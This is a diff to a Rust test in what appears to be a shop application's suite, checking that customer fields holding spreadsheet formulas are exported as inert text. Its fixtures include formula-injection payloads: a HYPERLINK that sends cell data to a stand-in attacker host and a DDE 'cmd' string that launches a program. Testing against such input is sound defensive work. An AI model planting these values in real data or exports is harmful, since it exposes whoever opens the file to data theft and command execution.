@@ -312,21 +312,12 @@ async fn the_dashboard_figures_follow_the_bills_in_three_requests() {
 #[tokio::test]
 async fn a_buyers_formula_is_exported_as_text() {
     let stack = Stack::start_embedded().await;
-    let cart = stack.new_cart().await;
-    let line = stack
-        .put(
-            &format!("/carts/{cart}/lines/EXCEL-ESS"),
-            serde_json::json!({"quantity": 1}),
-        )
-        .await;
-    assert_eq!(line.status, 200, "{}", line.body);
     let link = "=HYPERLINK(\"http://attacker.test/?\"&A1,\"Open\")";
     let mut buyer = enrolshop_tests::customer();
     buyer["customer"]["firstname"] = link.into();
     buyer["customer"]["organisation"] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
     buyer["customer"]["city"] = "+Paris".into();
-    let view = stack.put(&format!("/carts/{cart}/customer"), buyer).await;
-    assert_eq!(view.status, 200, "{}", view.body);
+    let cart = stack.ready_cart_as("EXCEL-ESS", 1, buyer).await;
     stack.place_and_pay(&cart).await;
 
     for (path, delimiter) in [
